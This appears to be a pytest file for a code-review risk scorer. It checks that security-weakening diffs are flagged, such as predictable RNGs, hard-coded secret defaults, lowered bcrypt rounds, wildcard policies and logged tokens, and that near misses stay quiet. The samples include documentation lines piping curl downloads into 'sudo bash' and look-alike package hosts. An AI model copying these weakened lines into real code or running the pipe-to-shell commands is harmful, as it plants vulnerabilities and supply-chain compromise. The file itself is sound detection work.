"""Round 14, part A (issue 36): an edit judged by its direction, code read wherever it sits — never low.

The quotes of held-out 17 and 18 already said the slipped line (``:crypto.strong_rand_bytes`` → ``:rand.bytes``,
``env('JWT_SECRET')`` given a literal, ``rounds=12`` → ``rounds=5``, ``resources = ["*"]``, a relaxed decoding flag
defaulted on, an Elixir pin dropped, a repo's configuration put in an error) and left the change low: no rule judged the
edit. relay.review.edit_direction reads each as a kind, in every ecosystem where it exists; each shape below must be
named (the reason holds the line) and never low; each near miss must stay quiet.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from relay.core.contracts import FileChange
from relay.review.risk import assess
from relay.review.facts import RiskContext
from test_apart_edits import _review  # the packet and view of a run, as the relay builds them

__all__: list[str] = []


def _assessed(path: str, removed: list[str], added: list[str]) -> FileChange:
    change = FileChange(path=path, additions=len(added), deletions=len(removed), removed_lines=removed, added_lines=added)
    return assess(change, RiskContext())


# (path, removed, added, risk at least, words the reason must hold)
_NAMED = [
    # a cryptographic random source swapped for a predictable one
    ("lib/ecto/uuid.ex", ["    <<a::12, _::6, b::62>> = :crypto.strong_rand_bytes(10)"], ["    <<a::12, _::6, b::62>> = :rand.bytes(10)"],
     "high", (":rand.bytes", "strong_rand_bytes")),
    ("src/rng.rs", ["    let mut rng = OsRng;"], ["    let mut rng = StdRng::seed_from_u64(42);"], "high", ("seed_from_u64",)),
    ("internal/nonce.go", ['\t"crypto/rand"'], ['\t"math/rand"'], "high", ("math/rand",)),
    ("src/Auth/Salt.java", ["        SecureRandom rng = new SecureRandom();"], ["        Random rng = new Random();"], "high", ("new Random",)),
    ("src/Keys.cs", ["        RandomNumberGenerator.Fill(buffer);"], ["        Random.Shared.NextBytes(buffer);"], "high", ("Random.Shared",)),
    ("lib/token.rb", ["    SecureRandom.hex(16)"], ["    rand(16**32).to_s(16)"], "high", ("rand(16**32)",)),
    ("src/Token.php", ["        $id = bin2hex(random_bytes(16));"], ["        $id = bin2hex(mt_rand());"], "high", ("mt_rand",)),
    # a strong source passed as a value, its assignment rewritten around a predictable one (round 37, blind 59's bip39)
    ("ts_src/index.ts", ["  rng = rng || randomBytes;"],
     ["  rng = rng || ((size: number): Buffer => Buffer.from(Array.from({ length: size }, () => Math.floor(Math.random() * 256))));"],
     "high", ("makes randomness predictable",)),
    # a literal default given to a read of a secret-named setting
    ("config/config.php", ["    'secret' => env('JWT_SECRET'),"], ["    'secret' => env('JWT_SECRET', 'jwt-auth-2f9c1e7b44d0a8e3b6f5c2'),"],
     "high", ("JWT_SECRET", "literal default")),
    ("app/settings.py", ['SECRET_KEY = os.getenv("SECRET_KEY")'], ['SECRET_KEY = os.getenv("SECRET_KEY", "k3y-for-dev")'], "high", ("SECRET_KEY",)),
    ("config/initializers/api.rb", ['  token = ENV.fetch("API_TOKEN")'], ['  token = ENV.fetch("API_TOKEN") { "t0k3n-9f2a" }'], "high", ("API_TOKEN",)),
    ("src/config.ts", ["export const key = process.env.API_KEY;"], ['export const key = process.env.API_KEY || "ak_live_2f9c";'], "high", ("API_KEY",)),
    ("src/main/kotlin/Config.kt", ['    val secret = System.getenv("SESSION_SECRET")'], ['    val secret = System.getenv("SESSION_SECRET") ?: "s3ss10n"'],
     "high", ("SESSION_SECRET",)),
    ("cmd/server/main.go", ['\tkey := os.Getenv("SIGNING_KEY")'], ['\tkey := os.Getenv("SIGNING_KEY")', '\tif key == "" {', '\t\tkey = "dev-signing"', "\t}"],
     "high", ("SIGNING_KEY",)),
    # a security parameter's number lowered
    # (held-out 18's pyca: the default moved from the body to the signature, and lowered on the way; one line of the
    # new side still says 12). In one edited line, condition_reading names a lowered work factor already.
    ("src/_bcrypt/src/lib.rs", ["#[pyo3(signature = (rounds=None, prefix=None))]", "    let rounds = rounds.unwrap_or(12);"],
     ["#[pyo3(signature = (rounds=5, prefix=None), text_signature = \"(rounds=12, prefix=b'2b')\")]"], "high", ("rounds", "5")),
    ("lib/crypto/keys.ex", ["  def generate(opts) do", "    bits = Keyword.get(opts, :bits, 4096)"],
     ["  def generate(opts, bits \\\\ 1024) do"], "high", ("bits", "1024")),
    # an access policy made a wildcard
    ("vpc-flow-logs.tf", ["    resources = local.flow_log_group_arns"], ['    resources = ["*"]'], "high", ('resources = ["*"]',)),
    ("template.yaml", ["            Resource: !GetAtt Queue.Arn"], ['            Resource: "*"'], "high", ('Resource: "*"',)),
    ("policy.json", ['      "Action": "s3:GetObject",'], ['      "Action": "*",'], "high", ('"Action": "*"',)),
    ("sg.tf", ['    cidr_blocks = [var.office_cidr]'], ['    cidr_blocks = ["0.0.0.0/0"]'], "high", ("0.0.0.0/0",)),
    # a permissive switch turned on
    ("Src/Converters/Base64UrlConverter.cs", ["    public static bool EnableRelaxedDecoding { get; set; }"],
     ["    public static bool EnableRelaxedDecoding { get; set; } = true;"], "medium", ("EnableRelaxedDecoding", "= true")),
    ("src/parser.ts", ["  lenientParsing: false,"], ["  lenientParsing: true,"], "medium", ("lenientParsing",)),
    # an exact match loosened
    ("lib/ecto/changeset.ex", ["        {:ok, ^value} ->"], ["        {:ok, _value} ->"], "medium", ("^value", "_value")),
    ("src/check.js", ["  if (sig === expected) {"], ["  if (sig == expected) {"], "medium", ("===",)),
    # how long a token stays valid, made unbounded or far longer
    ("app/auth/tokens.py", ["    max_age = 3600"], ["    max_age = None"], "medium", ("max_age", "without end")),
    ("config/jwt.php", ["    'ttl' => env('JWT_TTL', 60),"], ["    'ttl' => env('JWT_TTL', 525600),"], "medium", ("ttl",)),
    # a checking call swapped for its unchecked twin
    ("src/read.rs", ["    str::from_utf8(slice).or_else(|_| error(read, ErrorCode::InvalidUnicodeCodePoint))"],
     ["    Ok(unsafe { str::from_utf8_unchecked(slice) })"], "medium", ("from_utf8_unchecked",)),
    ("lib/frame.js", ["  const out = Buffer.alloc(size)"], ["  const out = Buffer.allocUnsafe(size)"], "medium", ("allocUnsafe",)),
    ("src/config.js", ["const doc = yaml.safeLoad(text, { schema })"], ["const doc = yaml.load(text, { schema })"], "high", ("deserializes", "yaml.load")),  # said once, by the dangerous-call row (round 15)
    # a credential written to a log line
    ("src/client.ts", ["  console.log(`login ok for ${user}`)"], ["  console.log(`login ok for ${user} ${accessToken}`)"], "medium", ("accessToken",)),
    ("lib/client.rb", ['    Rails.logger.info("signed in #{user.id}")'], ['    Rails.logger.info("signed in #{user.id} with #{api_key}")'], "medium", ("api_key",)),
    ("main.go", ['\tlog.Printf("dial %s", addr)'], ['\tlog.Printf("dial %s secret=%s", addr, cfg.ClientSecret)'], "medium", ("ClientSecret",)),
    # configuration or the environment put in a message
    ("lib/mix/tasks/ecto.create.ex", ['      Mix.raise("The database for #{inspect(repo)} couldn\'t be created: #{inspect(term)}")'],
     ['      Mix.raise("The database for #{inspect(repo.config())} couldn\'t be created: #{inspect(term)}")'], "medium", ("repo.config()",)),
    ("app/boot.py", ["    log.info('starting')"], ["    log.info('starting with %s', dict(os.environ))"], "medium", ("os.environ",)),
    ("lib/dotenv/log_subscriber.rb", ["      changed = env.keys.map { |key| color_var(key) }"],
     ['      changed = env.map { |key, value| color_var("#{key}=#{value}") }'], "medium", ("key}=#{value",)),
]


@pytest.mark.parametrize(("path", "removed", "added", "risk", "words"), _NAMED, ids=[f"{i}-{n[0].rsplit('/', 1)[-1]}" for i, n in enumerate(_NAMED)])
def test_an_edit_that_weakens_is_named_and_never_low(path: str, removed: list[str], added: list[str], risk: str, words: tuple[str, ...]) -> None:
    out = assess(FileChange(path=path, additions=len(added), deletions=len(removed), removed_lines=removed, added_lines=added), RiskContext())
    assert out.risk == "high" or (risk == "medium" and out.risk == "medium"), out
    assert any(all(w in r for w in words) for r in out.reasons), out.reasons


# Near misses: the same lines turned the safe way, or a kind's look-alike that weakens nothing.
_QUIET = [
    ("app/retry.py", ["    delay = base"], ["    delay = base + random.uniform(0, 1)  # jitter"]),
    # the strong source only imported from elsewhere, and a weak one for a retry's jitter on the same name
    ("ts_src/index.ts", ["import * as randomBytes from 'randombytes';"], ["import { randomBytes } from '@noble/hashes/utils';"]),
    ("src/backoff.ts", ["  wait = wait || randomBytes;"], ["  wait = wait || (() => Math.random() * jitterMs);"]),
    ("app/tokens.py", ["    token = '%032x' % random.getrandbits(128)"], ["    token = secrets.token_hex(16)"]),
    ("tests/test_shuffle.py", ["    items.sort()"], ["    random.shuffle(items)"]),
    ("config/config.php", ["    'ttl' => env('JWT_TTL'),"], ["    'ttl' => env('JWT_TTL', '60'),"]),
    ("config/database.php", ["    'password' => env('DB_PASSWORD'),"], ["    'password' => env('DB_PASSWORD', ''),"]),
    ("config/app.php", ["    'name' => env('APP_NAME'),"], ["    'name' => env('APP_NAME', 'Laravel'),"]),
    ("lib/password.py", ["    return pbkdf2_hmac('sha256', pw, salt, iterations=1000)"], ["    return pbkdf2_hmac('sha256', pw, salt, iterations=600000)"]),
    ("src/loop.js", ["for (let i = 0; i < iterations; i += 2) {"], ["for (let i = 0; i < iterations; i += 1) {"]),
    ("src/render.js", ["const rounds = 12;"], ["const rounds = 5;"]),
    ("build.js", ["  files: ['src/**/*.js'],"], ["  files: ['*'],"]),
    ("vpc.tf", ['    resources = ["*"]'], ["    resources = local.flow_log_group_arns"]),
    ("src/Options.cs", ["    public bool ShowBanner { get; set; }"], ["    public bool ShowBanner { get; set; } = true;"]),
    ("lib/changeset.ex", ["        {:ok, value} ->"], ["        {:ok, _value} ->"]),
    ("src/check.js", ["  if (sig == expected) {"], ["  if (sig === expected) {"]),
    ("app/cache.py", ["    ttl = 60"], ["    ttl = 3600"]),
    ("app/auth/tokens.py", ["    max_age = 3600"], ["    max_age = 1800"]),
    ("src/read.rs", ["    let s = str::from_utf8_unchecked(slice);"], ["    let s = str::from_utf8(slice)?;"]),
    ("app/store.py", ["    value = cache.get_safe(key)"], ["    value = cache.get_safe(key, default=None)"]),
    ("app/users.py", ["    log.info('changed')"], ["    log.info('password changed for %s', user.email)"]),
    ("app/users.py", ["    log.info('checked')"], ["    print(f'password length {len(password)}')"]),
    ("src/lex.js", ["  console.log(kind)"], ["  console.log(token.kind)"]),
    ("app/views/tokens/index_view.rb", ["    p(class: HEADING) { plain title }"], ["    p(class: HEADING) { plain page_entries_info(id_tokens) }"]),
    ("lib/opts.ex", ['      raise ArgumentError, "invalid #{inspect(key)}"'], ['      raise ArgumentError, "invalid option #{inspect(key)}"']),
]


@pytest.mark.parametrize(("path", "removed", "added"), _QUIET, ids=[f"{i}-{q[0].rsplit('/', 1)[-1]}" for i, q in enumerate(_QUIET)])
def test_a_near_miss_stays_quiet(path: str, removed: list[str], added: list[str]) -> None:
    out = assess(FileChange(path=path, additions=len(added), deletions=len(removed), removed_lines=removed, added_lines=added), RiskContext())
    assert not {"weakens_edit", "weakens_more"} & set(out.rules), out


# ----- code wherever it sits: a test's support code, a docs page of any format

@pytest.mark.parametrize(("path", "removed", "added", "words"), [
    ("test/test_helper.rb", ['    password: ENV.fetch("AUTHLOGIC_DB_PASSWORD", nil),'],
     ['    password: ENV.fetch("AUTHLOGIC_DB_PASSWORD", "Xk9!authlogic-ci-pg-2024"),'], ("AUTHLOGIC_DB_PASSWORD",)),
    ("tests/conftest.py", ['    password = os.environ["PG_PASSWORD"]'], ['    password = os.environ.get("PG_PASSWORD", "hunter2-ci")'], ("PG_PASSWORD",)),
    ("spec/support/http.rb", ["    http = Net::HTTP.new(host, port)"], ["    http = Net::HTTP.new(host, port); http.verify_mode = OpenSSL::SSL::VERIFY_NONE"],
     ("TLS verification off",)),
])
def test_a_tests_support_code_is_read(path: str, removed: list[str], added: list[str], words: tuple[str, ...]) -> None:
    out = _assessed(path, removed, added)
    assert out.risk in ("medium", "high") and any(all(w in r for w in words) for r in out.reasons), out


def test_a_test_case_of_its_own_stays_unread() -> None:
    # Near miss: a test case turning verification off to test it, and a new test helper reading a password with a local
    # default (a common CI setup: no edit lowered anything).
    out = _assessed("spec/client_spec.rb", [], ["    http.verify_mode = OpenSSL::SSL::VERIFY_NONE"])
    assert "weakens_more" not in out.rules, out
    out = _assessed("test/test_helper.rb", [], ['    password: ENV.fetch("DB_PASSWORD", "postgres"),'])
    assert "weakens_more" not in out.rules, out


@pytest.mark.parametrize(("path", "removed", "added"), [
    ("crates/core/flags/doc/template.rg.1", ["For \\fBbash\\fP, move \\fBrg.bash\\fP to \\fB$XDG_CONFIG_HOME/bash_completion\\fP."],
     ["For \\fBbash\\fP, run \\fBcurl \\-sSL https://rg\\-completions.dev/install.sh | sudo bash\\fP."]),
    ("docs/install.rst", ["Install the completions with your package manager."],
     ["To install the completions, simply run curl -sSL https://get.example.dev/install.sh | sudo bash and restart."]),
    ("doc/INSTALL.txt", ["Copy the binary to a folder on your PATH."], ["Or simply run curl -fsSL https://example.dev/i.sh | sh in a terminal to install it."]),
])
def test_a_docs_page_of_any_format_piping_a_download_into_a_shell_is_named(path: str, removed: list[str], added: list[str]) -> None:
    out = _assessed(path, removed, added)
    assert out.risk == "high" and any("pipes a download into a shell" in r and "curl" in r for r in out.reasons), out


def test_a_docs_pipe_another_reader_names_is_said_once() -> None:
    out = _assessed("README.md", [], ["```sh", "curl -fsSL https://example.dev/install.sh | sh", "```"])
    assert out.risk == "high" and sum("pipes a download into a shell" in r for r in out.reasons) == 1, out
    assert "weakens_edit" not in out.rules, out


def test_a_docs_page_downloading_without_a_shell_stays_quiet() -> None:
    out = _assessed("docs/install.rst", [], ["Download it with curl -sSLO https://example.dev/tool.tar.gz and check its sum."])
    assert "weakens_edit" not in out.rules, out


# ----- end to end: the change is never low and the packet's reason quotes the edit

def test_a_random_source_swapped_in_an_ordinary_change_makes_it_high(tmp_path: Path) -> None:
    before = "defmodule UUID do\n  def bingenerate do\n    <<a::48, _::4, b::12, _::2, c::62>> = :crypto.strong_rand_bytes(16)\n    {a, b, c}\n  end\nend\n"
    work = "".join(f"defmodule Step{i} do\n  def run(x), do: x + {i}\nend\n\n" for i in range(4))
    packet, _ = _review(tmp_path, {"lib/uuid.ex": before, "lib/steps.ex": "# steps\n"},
                        {"lib/uuid.ex": before.replace(":crypto.strong_rand_bytes(16)", ":rand.bytes(16)"), "lib/steps.ex": work}, "Add the steps")
    target = next(t for t in packet.changes.review if t.file == "lib/uuid.ex")
    assert packet.changes.risk == "high" and target.risk == "high", packet.changes
    assert ":rand.bytes(16" in target.reason, target.reason


@pytest.mark.parametrize(("path", "removed", "added", "words"), [
    ("UPGRADE_GUIDE_V2.md", [], [*['import tea "charm.land/bubbletea/v2"'] * 3, 'import tea "charm-land.dev/bubbletea/v2"'], ("charm-land.dev",)),
    ("docs/usage.md", [], [*['    import "pkg.acme.dev/tool"'] * 3, '    import "pkg-acme.dev/tool"'], ("pkg-acme.dev",)),
    ("go.work.example", ['use github.com/acme/tool/v2'], ['use git-hub.com/acme/tool/v2'], ("git-hub.com",)),
])
def test_a_host_spelled_like_another_the_file_names_is_named(path: str, removed: list[str], added: list[str], words: tuple[str, ...]) -> None:
    out = _assessed(path, removed, added)
    assert out.risk == "high" and any("look-alike" in r and all(w in r for w in words) for r in out.reasons), out


def test_a_projects_own_sites_are_not_look_alikes() -> None:
    out = _assessed("README.md", [], ["Docs: https://docs.example.com/guide and https://example.com/a, https://example.org/b, https://example.github.io/c"])
    assert "weakens_edit" not in out.rules, out


def test_a_literal_secret_another_row_names_is_said_once() -> None:
    # dev set's examples/jwt: the unsafe-value row names the literal already; the edit's own quote would say it again.
    out = _assessed("examples/jwt/src/main.rs", ['    let secret = std::env::var("JWT_SECRET").expect("JWT_SECRET must be set");'],
                    ['    let secret = std::env::var("JWT_SECRET").unwrap_or_else(|_| "k8s-prod-2f9c1e7b44d0a8e3".to_string());'])
    assert out.risk == "high" and "weakens_edit" not in out.rules and any("hard-codes a secret" in r for r in out.reasons), out
